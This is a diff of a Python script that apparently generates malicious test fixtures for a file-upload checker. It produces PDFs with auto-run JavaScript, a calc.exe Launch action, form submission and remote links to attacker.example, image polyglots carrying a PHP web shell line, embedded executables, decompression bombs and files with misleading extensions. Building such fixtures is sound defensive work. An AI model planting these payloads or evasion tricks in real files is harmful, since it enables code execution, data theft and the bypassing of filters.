@@ -74,15 +74,6 @@ def file(pdf: Pdf, name: str, content: bytes, kind: str = "/application/octet-st
     return Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream))
 
 
-def next_action(pdf: Pdf) -> None:
-    chain = action(
-        "GoTo",
-        D=[pdf.pages[0].obj, Name.Fit],
-        Next=Array([action("GoTo", D=[pdf.pages[0].obj, Name.Fit], Next=javascript())]),
-    )
-    annotate(pdf, Subtype=Name.Link, A=chain)
-
-
 def outline(pdf: Pdf) -> None:
     item = pdf.make_indirect(Dictionary(Title=String("Invoice"), A=action("Launch", F=String("calc.exe"))))
     pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
@@ -93,87 +84,99 @@ def media(pdf: Pdf) -> Dictionary:
     return Dictionary(S=Name.MR, C=Dictionary(S=Name.MCD, CT=String("video/mp4"), D=file(pdf, "a.mp4", b"video")))
 
 
-ACTIVE = {
-    "open-action": by(OpenAction=lambda pdf: javascript()),
-    "open-action-by-reference": by(OpenAction=lambda pdf: pdf.make_indirect(javascript())),
-    "open-action-script-in-a-stream": by(
-        OpenAction=lambda pdf: action("JavaScript", JS=pdf.make_stream(SCRIPT.encode()))
-    ),
-    "open-action-uri": by(OpenAction=lambda pdf: action("URI", URI=String("https://attacker.example/"))),
-    "document-scripts": tree("JavaScript", "a", lambda pdf: javascript()),
-    "catalog-before-closing": by(AA=lambda pdf: Dictionary(WC=javascript())),
-    "page-opens": lambda pdf: pdf.pages[0].obj.__setattr__("AA", Dictionary(O=javascript())),
-    "link": lambda pdf: annotate(pdf, Subtype=Name.Link, A=javascript()),
-    "link-launch": lambda pdf: annotate(pdf, Subtype=Name.Link, A=action("Launch", F=String("......calc.exe"))),
-    "link-next": next_action,
-    "outline-launch": outline,
-    "annotation-visible": lambda pdf: annotate(pdf, Subtype=Name.Link, AA=Dictionary(PV=javascript())),
-    "field-keystroke": lambda pdf: field(pdf, AA=Dictionary(K=javascript())),
-    "field-submit": lambda pdf: field(
-        pdf, A=action("SubmitForm", F=Dictionary(FS=Name.URL, F=String("https://attacker.example/")))
-    ),
-    "field-import": lambda pdf: field(pdf, A=action("ImportData", F=String("data.fdf"))),
-    "other-document": lambda pdf: annotate(
-        pdf, Subtype=Name.Link, A=action("GoToR", F=String(r"\\attacker.example\a.pdf"), D=[0, Name.Fit])
-    ),
-    "other-document-opens": by(
-        OpenAction=lambda pdf: action("GoToR", F=String(r"\\attacker.example\a.pdf"), D=[0, Name.Fit])
-    ),
-    "embedded-document": lambda pdf: annotate(
-        pdf, Subtype=Name.Link, A=action("GoToE", T=Dictionary(R=Name.C, N=String("a.pdf")), D=[0, Name.Fit])
-    ),
-    "rich-media": lambda pdf: annotate(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
-    "movie": lambda pdf: annotate(pdf, Subtype=Name.Movie, Movie=Dictionary(F=String("a.avi"))),
-    "sound": lambda pdf: annotate(pdf, Subtype=Name.Sound, Sound=pdf.make_stream(b"\0" * 8, R=8000)),
-    "sound-action": lambda pdf: annotate(
-        pdf, Subtype=Name.Link, A=action("Sound", Sound=pdf.make_stream(b"\0" * 8, R=8000))
-    ),
-    "rendition": lambda pdf: annotate(pdf, Subtype=Name.Screen, A=action("Rendition", OP=0, R=media(pdf))),
-    "xfa": by(
-        AcroForm=lambda pdf: Dictionary(
-            Fields=[], XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
-        )
-    ),
-}
-EMBEDDED = {
-    "program": tree("EmbeddedFiles", "a.exe", lambda pdf: file(pdf, "a.exe", b"MZ\x90\0")),
-    "second-pdf": tree(
-        "EmbeddedFiles", "a.pdf", lambda pdf: file(pdf, "a.pdf", sound("fpdf-invoice.pdf"), "/application/pdf")
-    ),
-    "page-as-xml": tree("EmbeddedFiles", "factur-x.html", lambda pdf: file(pdf, "factur-x.html", PAGE, "/text/html")),
-    "attachment-annotation": lambda pdf: annotate(
-        pdf, Subtype=Name.FileAttachment, FS=pdf.make_indirect(file(pdf, "a.exe", b"MZ"))
-    ),
-    "associated-file": by(AF=lambda pdf: Array([pdf.make_indirect(file(pdf, "a.zip", b"PK\3\4"))])),
+def goto(pdf: Pdf, **more) -> Dictionary:
+    return action("GoTo", D=[pdf.pages[0].obj, Name.Fit], **more)
+
+
+def link(make):
+    return lambda pdf: annotate(pdf, Subtype=Name.Link, A=make(pdf))
+
+
+def other_document(pdf: Pdf) -> Dictionary:
+    return action("GoToR", F=String(r"\\attacker.example\a.pdf"), D=[0, Name.Fit])
+
+
+# By reason, then by name: how the attack gets into a PDF.
+ATTACKS = {
+    "javascript": {
+        "open-action": by(OpenAction=lambda pdf: javascript()),
+        "open-action-by-reference": by(OpenAction=lambda pdf: pdf.make_indirect(javascript())),
+        "script-in-a-stream": by(OpenAction=lambda pdf: action("JavaScript", JS=pdf.make_stream(SCRIPT.encode()))),
+        "name-tree": tree("JavaScript", "a", lambda pdf: javascript()),
+        "before-closing": by(AA=lambda pdf: Dictionary(WC=javascript())),
+        "page-opens": lambda pdf: pdf.pages[0].obj.__setattr__("AA", Dictionary(O=javascript())),
+        "link": link(lambda pdf: javascript()),
+        "after-two-harmless-actions": link(lambda pdf: goto(pdf, Next=Array([goto(pdf, Next=javascript())]))),
+        "annotation-visible": lambda pdf: annotate(pdf, Subtype=Name.Link, AA=Dictionary(PV=javascript())),
+        "field-keystroke": lambda pdf: field(pdf, AA=Dictionary(K=javascript())),
+    },
+    "launch": {
+        "link": link(lambda pdf: action("Launch", F=String("......calc.exe"))),
+        "outline": outline,
+    },
+    "form-data": {
+        "submit": lambda pdf: field(
+            pdf, A=action("SubmitForm", F=Dictionary(FS=Name.URL, F=String("https://attacker.example/")))
+        ),
+        "import": lambda pdf: field(pdf, A=action("ImportData", F=String("data.fdf"))),
+    },
+    "other-file": {
+        "link": link(other_document),
+        "open-action": by(OpenAction=other_document),
+        "embedded": link(lambda pdf: action("GoToE", T=Dictionary(R=Name.C, N=String("a.pdf")), D=[0, Name.Fit])),
+    },
+    "media": {
+        "rich-media": lambda pdf: annotate(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
+        "movie": lambda pdf: annotate(pdf, Subtype=Name.Movie, Movie=Dictionary(F=String("a.avi"))),
+        "sound": lambda pdf: annotate(pdf, Subtype=Name.Sound, Sound=pdf.make_stream(bytes(8), R=8000)),
+        "sound-action": link(lambda pdf: action("Sound", Sound=pdf.make_stream(bytes(8), R=8000))),
+        "rendition": lambda pdf: annotate(pdf, Subtype=Name.Screen, A=action("Rendition", OP=0, R=media(pdf))),
+    },
+    "xfa": {
+        "form": by(AcroForm=lambda pdf: Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp:xdp/>"))),
+    },
+    "opens-link": {
+        "open-action": by(OpenAction=lambda pdf: action("URI", URI=String("https://attacker.example/"))),
+    },
+    "embedded-file": {
+        "program": tree("EmbeddedFiles", "a.exe", lambda pdf: file(pdf, "a.exe", b"MZ\x90\0")),
+        "pdf": tree(
+            "EmbeddedFiles", "a.pdf", lambda pdf: file(pdf, "a.pdf", sound("fpdf-invoice.pdf"), "/application/pdf")
+        ),
+        "page": tree("EmbeddedFiles", "a.html", lambda pdf: file(pdf, "a.html", PAGE, "/text/html")),
+        "page-declared-as-invoice": tree(
+            "EmbeddedFiles", "factur-x.xml", lambda pdf: file(pdf, "factur-x.xml", PAGE, "/text/xml")
+        ),
+        "annotation": lambda pdf: annotate(
+            pdf, Subtype=Name.FileAttachment, FS=pdf.make_indirect(file(pdf, "a.exe", b"MZ"))
+        ),
+        "associated-file": by(AF=lambda pdf: Array([pdf.make_indirect(file(pdf, "a.zip", b"PK\3\4"))])),
+    },
 }
 
 
 def pdfs() -> None:
-    for name, attack in ACTIVE.items():
-        twin("active", f"{name}-plain", attack, **PLAIN)
-        twin("active", f"{name}-in-object-stream", attack, **STREAMS)
-    script = ACTIVE["open-action-by-reference"]
-    twin("active", "encrypted-with-empty-password", script, encryption=Encryption(user="", owner="o", R=6), **STREAMS)
-    twin("active", "linearized", script, linearize=True)
-    # One of each producer. A signature, a form and an XML stay what they were: only the script is new.
-    for base in sorted({path.name.split("-")[0]: path.name for path in SOUND.glob("*.pdf")}.values()):
-        twin("active", f"twin-of-{base.removesuffix('.pdf')}", script, base=base, **STREAMS)
-    for name, attack in EMBEDDED.items():
-        twin("embedded", f"{name}-plain", attack, **PLAIN)
-        twin("embedded", f"{name}-in-object-stream", attack, **STREAMS)
-    plain = (OUT / "active" / "link-launch-plain.pdf").read_bytes()
-    # As long as before, so that the offsets hold.
-    write("active", "name-in-hexadecimal.pdf", plain.replace(b"/Launch", b"/#4caun#63h").replace(b"....calc", b"calc"))
-    plain = (OUT / "active" / "open-action-plain.pdf").read_bytes()
-    write("active", "nul-is-white-space.pdf", plain.replace(b"/S /JavaScript", b"/S\0/JavaScript"))
-    write("active", "appended-update.pdf", update(sound("reportlab-invoice.pdf")))
-
+    for reason, attacks in ATTACKS.items():
+        for name, attack in attacks.items():
+            twin(reason, f"{name}-plain", attack, **PLAIN)
+            twin(reason, f"{name}-in-object-stream", attack, **STREAMS)
+    script = ATTACKS["javascript"]["open-action-by-reference"]
     twin(
-        "unreadable", "encrypted-with-password", lambda pdf: None, encryption=Encryption(user="secret", owner="o", R=6)
+        "javascript", "encrypted-with-empty-password", script, encryption=Encryption(user="", owner="o", R=6), **STREAMS
     )
-    whole = sound("libreoffice-writer.pdf")
-    write("unreadable", "cut-off.pdf", whole[: len(whole) // 2])
-    write("unreadable", "object-stream-of-a-gigabyte.pdf", bomb(b"\0" * 2**20, 1024))
+    twin("javascript", "linearized", script, linearize=True)
+    # One of each producer: only the script is new.
+    for base in sorted({path.name.split("-")[0]: path.name for path in SOUND.glob("*.pdf")}.values()):
+        twin("javascript", f"twin-of-{base.removesuffix('.pdf')}", script, base=base, **STREAMS)
+    # As long as before, so that the offsets hold.
+    plain = (OUT / "launch" / "link-plain.pdf").read_bytes()
+    write("launch", "name-in-hexadecimal.pdf", plain.replace(b"/Launch", b"/#4caun#63h").replace(b"....calc", b"calc"))
+    plain = (OUT / "javascript" / "open-action-plain.pdf").read_bytes()
+    write("javascript", "nul-is-white-space.pdf", plain.replace(b"/S /JavaScript", b"/S\0/JavaScript"))
+    write("javascript", "appended-update.pdf", update(sound("reportlab-invoice.pdf")))
+
+    twin("encrypted", "with-password", lambda pdf: None, encryption=Encryption(user="secret", owner="o", R=6))
+    write("unreadable", "object-stream-of-a-gigabyte.pdf", bomb(bytes(2**20), 1024))
     write("unreadable", "a-million-nested-arrays.pdf", bomb(b"[" * 2**20, 1))
 
 
@@ -219,35 +222,35 @@ def chunk(kind: bytes, body: bytes) -> bytes:
 def polyglots() -> None:
     png, jpeg, pdf = sound("pillow-rgba.png"), sound("pillow-baseline.jpg"), sound("fpdf-invoice.pdf")
     jar = archive("META-INF/MANIFEST.MF", b"Main-Class: A\n")
-    for name, after in {
-        "archive": jar,
-        "page": PAGE,
-        "php": b"<?php system($_GET[0]);",
-        "pdf": pdf,
-        "program": b"MZ\x90\0" + bytes(60),
-    }.items():
-        write("content", f"png-and-{name}.png", png + after)
-        write("content", f"jpeg-and-{name}.jpg", jpeg + after)
-    write("content", "pdf-and-archive.pdf", pdf + jar)
-    write("content", "archive-and-pdf.pdf", jar + pdf)
-    write("content", "page-and-pdf.pdf", PAGE + pdf)
-    write("content", "pdf-and-page.pdf", pdf + PAGE)
-    comment = pdf[:900]
-    write(
-        "content",
-        "jpeg-comment-is-a-pdf.jpg",
-        jpeg[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment + jpeg[2:],
-    )
-    write("content", "png-chunk-is-a-pdf.png", png[:33] + chunk(b"teXt", comment) + png[33:])
-    write("content", "jpeg-as-png.png", jpeg)
-    write("content", "png-as-pdf.pdf", png)
-    write("content", "webp-as-jpeg.jpg", saved("WEBP"))
-    write("content", "gif-as-png.png", saved("GIF"))
-    write("content", "cut-off.png", png[:-20])
-    write("content", "cut-off.jpg", jpeg[:-20])
-    write("pixels", "120-megapixels.png", saved("PNG", "1", (12_000, 10_000)))
-    large = jpeg.index(b"\xff\xc0") + 5
-    write("pixels", "4-gigapixels.jpg", jpeg[:large] + b"\xff\xdc\xff\xdc" + jpeg[large + 4 :])
+    php, program = b"<?php system($_GET[0]);", b"MZ\x90\0" + bytes(60)
+    for name, after in {"archive": jar, "page": PAGE, "php": php, "pdf": pdf, "program": program}.items():
+        write("after-end", f"png-and-{name}.png", png + after)
+        write("after-end", f"jpeg-and-{name}.jpg", jpeg + after)
+    write("archive", "in-a-pdf.pdf", pdf.replace(b"\n%%EOF", b"\n%" + jar + b"\n%%EOF"))
+    write("archive", "in-a-comment.jpg", jpeg[:2] + segment(0xFE, jar) + jpeg[2:])
+    write("archive", "in-a-chunk.png", png[:33] + chunk(b"teXt", jar) + png[33:])
+    write("pdf-inside", "in-a-comment.jpg", jpeg[:2] + segment(0xFE, pdf[:900]) + jpeg[2:])
+    write("pdf-inside", "in-a-chunk.png", png[:33] + chunk(b"teXt", pdf[:900]) + png[33:])
+    write("pdf-inside", "in-text.txt", b"notes\n%PDF-1.7\n")
+    write("damaged", "pdf-and-archive.pdf", pdf + jar)
+    write("damaged", "pdf-and-page.pdf", pdf + PAGE)
+    whole = sound("libreoffice-writer.pdf")
+    write("damaged", "cut-off.pdf", whole[: len(whole) // 2])
+    write("damaged", "cut-off.png", png[:-20])
+    write("damaged", "cut-off.jpg", jpeg[:-20])
+    write("not-of-its-type", "archive-and.pdf", jar + pdf)
+    write("not-of-its-type", "page-and.pdf", PAGE + pdf)
+    write("not-of-its-type", "jpeg.png", jpeg)
+    write("not-of-its-type", "png.pdf", png)
+    write("not-of-its-type", "webp.jpg", saved("WEBP"))
+    write("not-of-its-type", "gif.png", saved("GIF"))
+    write("pixels", "120-million.png", saved("PNG", "1", (12_000, 10_000)))
+    size = jpeg.index(b"\xff\xc0") + 5
+    write("pixels", "3-billion.jpg", jpeg[:size] + b"\xff\xdc\xc0\x00" + jpeg[size + 4 :])
+
+
+def segment(kind: int, body: bytes) -> bytes:
+    return bytes([0xFF, kind]) + (len(body) + 2).to_bytes(2, "big") + body
 
 
 def saved(kind: str, mode: str = "L", size: tuple[int, int] = (32, 32)) -> bytes:
@@ -258,28 +261,36 @@ def saved(kind: str, mode: str = "L", size: tuple[int, int] = (32, 32)) -> bytes
 
 def texts() -> None:
     svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
-    for name, content in {
-        "page.csv": PAGE,
-        "page-after-blanks.txt": b"\xef\xbb\xbf \r\n\t" + PAGE,
-        "svg.txt": b"<?xml version='1.0'?>" + svg,
-        "script.csv": b"<script>alert(1)</script>;1\r\n",
-        "page-in-utf-16.txt": PAGE.decode().encode("utf-16"),
-        "nul.txt": b"a\0b\n",
-        "escape-sequence.txt": b"\x1b]0;owned\x07hello\n",
-        "program.txt": b"\x7fELF\x02\x01\x01" + bytes(9),
-        "archive.csv": archive(),
-        "pdf.txt": b"notes\n" + sound("fpdf-invoice.pdf"),
+    for reason, files in {
+        "markup": {
+            "page.csv": PAGE,
+            "page-after-blanks.txt": b"\xef\xbb\xbf \r\n\t" + PAGE,
+            "svg.txt": svg,
+            "xml.txt": b"<?xml version='1.0'?>" + svg,
+            "script.csv": b"<script>alert(1)</script>;1\r\n",
+        },
+        "utf-16": {"page.txt": PAGE.decode().encode("utf-16"), "table.csv": "a;ü\r\n".encode("utf-16")},
+        "control": {
+            "nul.txt": b"a\0b\n",
+            "escape-sequence.txt": b"\x1b]0;owned\x07hello\n",
+            "program.txt": b"\x7fELF\x02\x01\x01" + bytes(9),
+            "archive.csv": archive(),
+            "packed.txt": b"\x1f\x8b\x08" + bytes(7),
+        },
+        "not-utf-8": {"windows-1252.csv": "name;sum\r\nMüller;1\r\n".encode("windows-1252")},
+        "empty": {"nothing.txt": b"", "blanks.csv": b" \r\n", "nothing.pdf": b""},
+        "name": {
+            "page.html": PAGE,
+            "drawing.svg": svg,
+            "archive.zip": archive(),
+            "sheet.xlsx": archive("[Content_Types].xml", b"<Types/>"),
+            "picture.gif": saved("GIF"),
+            "script.js": b"alert(1)",
+            "invoice.pdf.exe": sound("fpdf-invoice.pdf"),
+        },
     }.items():
-        write("content", name, content)
-    for name, content in {
-        "page.html": PAGE,
-        "drawing.svg": svg,
-        "archive.zip": archive(),
-        "sheet.xlsx": archive("[Content_Types].xml", b"<Types/>"),
-        "picture.gif": saved("GIF"),
-        "script.js": b"alert(1)",
-    }.items():
-        write("type", name, content)
+        for name, content in files.items():
+            write(reason, name, content)
 
 
 for make in [pdfs, polyglots, texts]:
